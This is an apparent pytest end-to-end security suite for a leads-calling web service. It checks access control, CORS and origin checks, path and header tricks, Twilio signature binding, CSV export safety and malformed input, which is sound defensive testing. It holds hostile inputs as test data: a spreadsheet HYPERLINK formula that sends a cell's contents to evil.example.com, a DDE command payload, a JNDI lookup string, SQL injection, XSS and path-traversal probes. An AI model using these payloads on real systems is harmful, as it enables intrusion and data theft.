"""What attackers of web applications try first, tried on the running stack."""

import csv
import io
import json
import uuid
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
import requests
from twilio.request_validator import RequestValidator
from websockets.exceptions import InvalidStatus

from cdk.apis import LEADS_API
from functions.leads_api.lists.leads_csv import unprotected
from tests.e2e.agents import PATIENCE_S, Numbers, Outputs, Person, Tab, aws

OF_A_LEAD = [(method, path) for method, path in LEADS_API if "{id}" in path]
SAID = {
    "outcome": {"code": "meeting"},
    "note": {"text": "a"},
    "ring-back": {"seen": "2026-01-01T00:00:00.000Z", "done": True},
    "hold": {"held": True},
}
"""What a route asks for besides the attempt."""


# -- somebody else's leads ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path"), OF_A_LEAD)
def test_another_agents_lead_is_no_lead(stack: Outputs, someone: Callable[..., Person], method: str, path: str) -> None:
    """Every route with a lead's id answers a stranger as if the lead were not there, and changes nothing."""
    owner, stranger, admin = someone(), someone(), someone("admins")
    (lead,) = owner.imports(*Numbers.take(1), name="Ada")
    before = _row(stack, owner, lead)
    said = SAID.get(path.rpartition("/")[2], {})
    body = {"attempt_id": before.get("attempt_id", {}).get("S", "x"), **said}
    for other in (stranger, admin):
        theirs = other.api(method, path.replace("{id}", lead), json=body)
        nobodys = other.api(method, path.replace("{id}", uuid.uuid4().hex), json=body)
        assert theirs.status_code == 404
        assert theirs.json() == nobodys.json()
    assert _row(stack, owner, lead) == before
    assert stranger.leads() == admin.leads() == []


def test_ids_that_name_a_path_or_a_key_reach_nothing(stack: Outputs, someone: Callable[..., Person]) -> None:
    """Slashes, dots, encodings, other users' keys: whatever stands for the id, it is no lead."""
    owner, stranger = someone(), someone()
    (lead,) = owner.imports(*Numbers.take(1))
    before = _row(stack, owner, lead)
    ids = [
        f"{owner.user_id}/{lead}",
        f"{owner.user_id}%2F{lead}",
        f"..%2f{lead}",
        f"{lead}%00",
        f"%00{lead}",
        f"{lead}%20",
        f"{lead}%0a",
        f"{lead};",
        f"{lead}%23",
        f"{lead}?user_id={owner.user_id}",
        quote(f'{lead}" OR "1"="1'),
        "*",
        "%2a",
        "{id}",
        "\uff41" * 10,
        "x" * 2000,
    ]
    for told in ids:
        for method in ("GET", "DELETE"):
            answer = stranger.api(method, f"/api/leads/{told}")
            assert answer.status_code in (400, 404, 414), (method, told, answer.text)
    assert _row(stack, owner, lead) == before


def test_a_cursor_shows_only_ones_own(someone: Callable[..., Person]) -> None:
    """A cursor is a place in one's own list, whoever made it."""
    owner, stranger = someone(), someone()
    owner.imports(*Numbers.take(3))
    (own,) = stranger.imports(*Numbers.take(1))
    cursor = owner.api("GET", "/api/leads?limit=1").json()["next"]
    shown = stranger.api("GET", f"/api/leads?limit=100&cursor={cursor}").json()["items"]
    assert {lead["lead_id"] for lead in shown} <= {own}
    exported = stranger.api("GET", f"/api/leads.csv?cursor={cursor}&pieces=true").text
    assert len(exported.splitlines()) <= 1


def test_nobody_signs_somebody_else_out(stack: Outputs, someone: Callable[..., Person]) -> None:
    """A connection's id closes only one's own socket."""
    owner, stranger = someone(), someone()
    tab = owner.tab().start()
    connection = _connections(stack, owner)[0]
    assert stranger.api("DELETE", f"/api/connections?connection={connection}").json() == {"closed": 0, "in_flight": []}
    tab.emit("ping")
    tab.wait(lambda tab: len(tab.events("pong")) == 2)


def test_only_admins_change_what_is_everybodys(someone: Callable[..., Person]) -> None:
    """An agent is no admin, whatever the request claims."""
    agent, admin = someone(), someone("admins")
    numbers = {"numbers": Numbers.take(1), "installation": True}
    claims = {"x-groups": "admins", "cognito-groups": "admins", "x-amzn-oidc-data": "admins"}
    assert agent.api("POST", "/api/do-not-call", json=numbers | {"groups": ["admins"]}).status_code == 403
    assert agent.api("POST", "/api/do-not-call?groups=admins", json=numbers, headers=claims).status_code == 403
    assert admin.api("POST", "/api/do-not-call", json=numbers).json()["forbidden"] == 1


def test_a_body_cannot_set_what_is_not_its_own(stack: Outputs, agent: Person) -> None:
    """Names of the table's own attributes in an import are kept as text beside the lead, never as its state."""
    tricks = {"call_status": "completed", "has_been_called": True, "due": "busy#", "user_id": "x", "version": 99}
    phone = Numbers.take(1)[0]
    (lead,) = agent.imports(phone, **tricks)
    row = _row(stack, agent, lead)
    assert row["call_status"] == {"S": "pending"}
    assert row["has_been_called"] == {"BOOL": False}
    assert row["due"]["S"].startswith("wait#")
    assert row["version"] == {"N": "1"}
    assert row["user_id"] == {"S": agent.user_id}
    settings = {"paused": True, "user_id": "x", "installation": {"lines": 20}}
    assert agent.api("PUT", "/api/settings", json=settings).status_code == 400


# -- foreign pages -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example.com",
        "null",
        "",
        "{page}.evil.example.com",
        "{page}/",
        "{page}@evil.example.com",
        "https{page_without_scheme}",
        "http://127.0.0.1:1",
        "file://",
    ],
)
def test_a_handshake_from_another_origin_is_refused(stack: Outputs, agent: Person, origin: str) -> None:
    """A good token opens no socket for a page that is not listed, however alike its address is."""
    page = stack["page_url"].rstrip("/")
    told = origin.replace("{page_without_scheme}", page.partition("http")[2]).replace("{page}", page)
    with pytest.raises(InvalidStatus) as refused:
        Tab(stack["websocket_url"], agent.token, additional_headers={"Origin": told})
    assert refused.value.response.status_code in (401, 403)
    assert _connections(stack, agent) == []


def test_a_foreign_page_is_not_let_read_the_api(stack: Outputs, agent: Person) -> None:
    """Only listed origins are named by CORS, and never with credentials."""
    (page, foreign) = stack["page_url"].rstrip("/"), "https://evil.example.com"
    asks = {"access-control-request-method": "GET", "access-control-request-headers": "authorization"}
    address = f"{stack['http_url']}/api/leads"
    for origin, allowed in ((page, page), (foreign, None)):
        preflight = requests.options(address, headers=asks | {"origin": origin}, timeout=PATIENCE_S)
        answer = agent.api("GET", "/api/leads", headers={"origin": origin})
        for told in (preflight, answer):
            assert told.headers.get("access-control-allow-origin") == allowed, origin
            assert "access-control-allow-credentials" not in told.headers


def test_a_token_in_the_address_opens_no_route(stack: Outputs, agent: Person) -> None:
    """The API takes a token from its header alone, the socket from its query alone; there are no cookies."""
    address = f"{stack['http_url']}/api/leads"
    assert requests.get(f"{address}?token={agent.token}", timeout=PATIENCE_S).status_code == 401
    assert requests.get(f"{address}?access_token={agent.token}", timeout=PATIENCE_S).status_code == 401
    assert requests.get(address, cookies={"token": agent.token}, timeout=PATIENCE_S).status_code == 401
    basic = {"authorization": f"Basic {agent.token}"}
    assert requests.get(address, headers=basic, timeout=PATIENCE_S).status_code == 401
    with pytest.raises(InvalidStatus):
        Tab(stack["websocket_url"], "", additional_headers={"Authorization": f"Bearer {agent.token}"})
    assert "set-cookie" not in agent.api("GET", "/api/leads").headers


def test_answers_say_that_they_are_nobody_elses_and_no_page(stack: Outputs, agent: Person) -> None:
    """No answer is kept by a cache or guessed to be HTML; the page itself allows nothing inline and no frame."""
    for path in ("/api/leads", "/api/leads.csv", "/api/settings", "/api/leads/none"):
        headers = agent.api("GET", path).headers
        assert headers["cache-control"] == "no-store"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-type"].partition(";")[0] in ("application/json", "text/csv")
    page = requests.get(stack["page_url"], timeout=PATIENCE_S).headers
    policy = dict(part.split(" ", 1) for part in page["content-security-policy"].split("; "))
    assert policy["default-src"] == policy["frame-ancestors"] == policy["base-uri"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == "'self'"
    assert stack["websocket_url"].split("/_aws")[0] in policy["connect-src"]
    assert page["referrer-policy"] == "no-referrer"


# -- paths and headers -------------------------------------------------------------------------------------------------


def test_no_header_changes_the_route_or_the_user(stack: Outputs, someone: Callable[..., Person]) -> None:
    """Headers by which some servers override method, path or identity do nothing."""
    owner, other = someone(), someone()
    (lead,) = owner.imports(*Numbers.take(1))
    before = _row(stack, owner, lead)
    tricks = {
        "X-HTTP-Method-Override": "DELETE",
        "X-Method-Override": "DELETE",
        "X-Original-URL": "/api/connections",
        "X-Rewrite-URL": "/api/connections",
        "X-Forwarded-User": other.user_id,
        "X-Forwarded-Prefix": "/twilio",
        "X-User-Id": other.user_id,
        "X-Amzn-Request-Context": json.dumps({"authorizer": {"jwt": {"claims": {"sub": other.user_id}}}}),
    }
    answer = owner.api("GET", f"/api/leads/{lead}?_method=DELETE", headers=tricks)
    assert answer.status_code == 200
    assert answer.json()["lead_id"] == lead
    assert _row(stack, owner, lead) == before


@pytest.mark.parametrize(
    "path",
    [
        "/api/../api/leads",
        "/api/leads/..%2f..%2fapi%2fsettings",
        "/api//leads",
        "/API/LEADS",
        "/api/leads.json",
        "/api/leads%00.csv",
        "/api/leads/x/../../settings",
        "/api",
        "/.env",
        "/.git/config",
        "/twilio/status",
        "/twilio/status/a/b/c",
    ],
)
def test_paths_that_are_no_route_are_nothing(stack: Outputs, agent: Person, path: str) -> None:
    """What is not exactly a route answers nothing of use, also to somebody who is logged in."""
    request = requests.Request("GET", "http://x", headers={"authorization": f"Bearer {agent.token}"}).prepare()
    request.url = stack["http_url"] + path  # as it stands: requests would tidy it up
    with requests.Session() as session:
        answer = session.send(request, timeout=PATIENCE_S)
    assert answer.status_code in (400, 403, 404), answer.text
    assert "items" not in answer.text


def test_other_methods_are_no_routes(agent: Person) -> None:
    """A route has the methods that it has."""
    for method in ("PUT", "PATCH", "DELETE", "TRACE"):
        assert agent.api(method, "/api/leads").status_code in (403, 404, 405), method


def test_a_signature_holds_for_one_address_and_one_form(stack: Outputs, agent: Person) -> None:
    """A callback that Twilio did sign is refused for another lead, another attempt, or with anything added."""
    (lead,) = agent.imports(*Numbers.take(1))
    other = uuid.uuid4().hex
    path = f"/twilio/status/{agent.user_id}/{lead}?attempt=one"
    form = {"CallSid": f"CA{other}", "CallStatus": "completed"}
    signature = RequestValidator(stack["twilio_auth_token"]).compute_signature(stack["http_url"] + path, form)

    def answered(path: str, form: Any, **headers: str) -> int:
        told = {"X-Twilio-Signature": signature, "content-type": "application/x-www-form-urlencoded", **headers}
        return requests.post(stack["http_url"] + path, data=form, headers=told, timeout=PATIENCE_S).status_code

    assert answered(path, form) == 204
    for stolen in (
        path.replace(lead, other),
        path.replace(agent.user_id, other),
        path.replace("one", "two"),
        f"{path}&attempt=two",
        f"{path}&x=1",
    ):
        assert answered(stolen, form) == 403, stolen
    for changed in (form | {"CallStatus": "busy"}, form | {"To": "x"}, [*form.items(), ("CallStatus", "busy")], ""):
        assert answered(path, changed) == 403, changed
    assert answered(path, json.dumps(form), **{"content-type": "application/json"}) == 403
    assert agent.lead(lead)["call_status"] == "pending"


# -- spreadsheets ------------------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    '=HYPERLINK("https://evil.example.com?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "\uff1d1+1",
]


def test_an_export_is_safe_to_open(agent: Person) -> None:
    """No cell of an export begins as a formula does, each stays one cell, and an import understands it all again."""
    phones = Numbers.take(len(FORMULAS))
    leads = [
        {"phone": phone, "name": formula, "note": f'a","{formula}\n{formula}', f"extra.{formula or 'x'}": formula}
        for phone, formula in zip(phones, FORMULAS, strict=True)
    ]
    assert agent.api("POST", "/api/leads", json=leads).json()["created"] == len(phones)
    before = {lead["phone"]: lead for lead in agent.leads()}
    exported = agent.api("GET", "/api/leads.csv")
    assert exported.headers["content-disposition"].startswith("attachment")
    header, *rows = csv.reader(io.StringIO(exported.text.removeprefix("\ufeff")))
    assert len(rows) == len(phones)
    assert {len(row) for row in rows} == {len(header)}
    for row in rows:
        dangerous = [cell for cell in row[1:] if cell.lstrip(" ")[:1] in tuple("=+-@\t\r\uff1d")]
        assert not [cell for cell in dangerous if cell], row

    again = agent.api("POST", "/api/leads", data=exported.text.encode(), headers={"content-type": "text/csv"}).json()
    assert again == {"created": 0, "merged": len(phones), "refused": [], "warnings": []}
    assert {lead["phone"]: lead for lead in agent.leads()} == before


# -- sizes and letters -------------------------------------------------------------------------------------------------


def test_oversized_bodies_are_refused(agent: Person) -> None:
    """More than 1 MB is refused with 413, as JSON, CSV or anything else, and nothing of it is stored."""
    phone = Numbers.take(1)[0]
    big = "x" * 1_100_000
    assert agent.api("POST", "/api/leads", json=[{"phone": phone, "note": big}]).status_code == 413
    csv_file = f"phone,note\n{phone},{big}\n"
    assert agent.api("POST", "/api/leads", data=csv_file, headers={"content-type": "text/csv"}).status_code == 413
    assert agent.api("POST", "/api/do-not-call", data=big).status_code == 413
    assert agent.api("PUT", "/api/settings", data=big).status_code == 413
    assert agent.leads() == []


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000,
        '{"leads":' * 5_000,
        "[" + "9" * 100_000 + "]",
        '[{"phone": 1e999}]',
        '[{"phone": NaN}]',
        '{"leads": [null, 7, "x", [], {}]}',
        '{"__proto__": {"admin": true}, "leads": []}',
        '[{"phone": "\\ud800"}]',
        "\ufeff[]",
        "",
        "null",
        "\x00",
    ],
)
def test_strange_json_is_no_server_error(agent: Person, body: str) -> None:
    """Deep, huge, or not quite JSON: refused with a reason, or taken for what it holds."""
    for path in ("/api/leads", "/api/do-not-call", "/api/autocall/pause"):
        answer = agent.api("POST", path, data=body.encode(), headers={"content-type": "application/json"})
        assert answer.status_code in (200, 400, 413), (path, answer.text)
    assert agent.leads() == []


def test_a_lead_that_is_too_long_is_shortened_and_named(agent: Person) -> None:
    """No row is lost for a long cell: what was shortened is named by its line."""
    first, last, huge = Numbers.take(3)
    leads = [{"phone": first}, {"phone": huge, "note": "x" * 5000}, {"phone": last, "name": "x" * 200}]
    told = agent.api("POST", "/api/leads", json=leads).json()
    assert (told["created"], told["refused"]) == (3, [])
    assert [(warning["line"], warning["code"], warning["detail"]["column"]) for warning in told["warnings"]] == [
        (2, "shortened", "note")
    ]


@pytest.mark.parametrize("size", [33_000, 900_000])
def test_an_oversized_frame_is_told_so(agent: Person, size: int) -> None:
    """A frame of more than 32 KB is an error, and the socket stays."""
    tab = agent.tab()
    tab.raw(json.dumps({"event": "ping", "data": {"x": "y" * size}}))
    error = tab.wait(lambda tab: tab.events("error"))[0]
    assert error["code"] == "malformed_frame"
    tab.emit("ping")
    tab.wait(lambda tab: tab.events("pong"))


UNICODE = [
    "Zoë Ångström",
    "李小龍",
    "مريم",
    "👩‍👩‍👧‍👦 family",
    "a\u202etxt.exe",
    "Z\u0351a\u0352l\u0353g\u0354o",
    "\u00a0 spaces \u2003",
    "<script>alert(1)</script>",
    "${jndi:ldap://x}{{7*7}}%s%n",
    "'; DROP TABLE leads; --",
    "a" * 200,
    "e\u0301 is not \u00e9",
]


def test_every_letter_comes_back_as_it_was(agent: Person) -> None:
    """Names of any script and with any sign in them are text: stored, listed and exported unchanged."""
    phones = Numbers.take(len(UNICODE))
    leads = [{"phone": phone, "name": name, "note": name} for phone, name in zip(phones, UNICODE, strict=True)]
    assert agent.api("POST", "/api/leads", json=leads).json()["created"] == len(phones)
    names = {lead["phone"]: lead["name"] for lead in agent.leads()}
    assert names == {phone: name.strip() for phone, name in zip(phones, UNICODE, strict=True)}
    exported = list(csv.DictReader(io.StringIO(agent.api("GET", "/api/leads.csv").content.decode("utf-8-sig"))))
    shown = {row["phone"].replace(" ", ""): unprotected(row["name"]) for row in exported}
    assert shown == names


def test_digits_of_any_script_are_one_number(agent: Person) -> None:
    """A number in full-width or Arabic digits is the same lead, so it is not called twice."""
    (phone,) = Numbers.take(1)
    wide = "".join(chr(ord("\uff10") + int(digit)) for digit in phone[1:])
    arabic = "".join(chr(ord("\u0660") + int(digit)) for digit in phone[1:])
    told = [agent.api("POST", "/api/leads", json=[{"phone": f"+{one}"}]).json() for one in (phone[1:], wide, arabic)]
    assert [answer["created"] for answer in told] == [1, 0, 0], told
    assert len(agent.leads()) == 1


# -- helpers -----------------------------------------------------------------------------------------------------------


def _row(stack: Outputs, owner: Person, lead: str) -> dict[str, Any]:
    """The lead as it stands in the table; with no page open, no run changes it."""
    key = {"user_id": {"S": owner.user_id}, "lead_id": {"S": lead}}
    row: dict[str, Any] = aws(stack, "dynamodb").get_item(TableName=stack["leads_table"], Key=key, ConsistentRead=True)[
        "Item"
    ]
    return row


def _connections(stack: Outputs, agent: Person) -> list[str]:
    found = aws(stack, "dynamodb").query(
        TableName=stack["agents_table"],
        KeyConditionExpression="user_id = :user AND begins_with(#item, :connection)",
        ExpressionAttributeNames={"#item": "item"},
        ExpressionAttributeValues={":user": {"S": agent.user_id}, ":connection": {"S": "connection#"}},
        ConsistentRead=True,
    )["Items"]
    return [item["item"]["S"].removeprefix("connection#") for item in found]
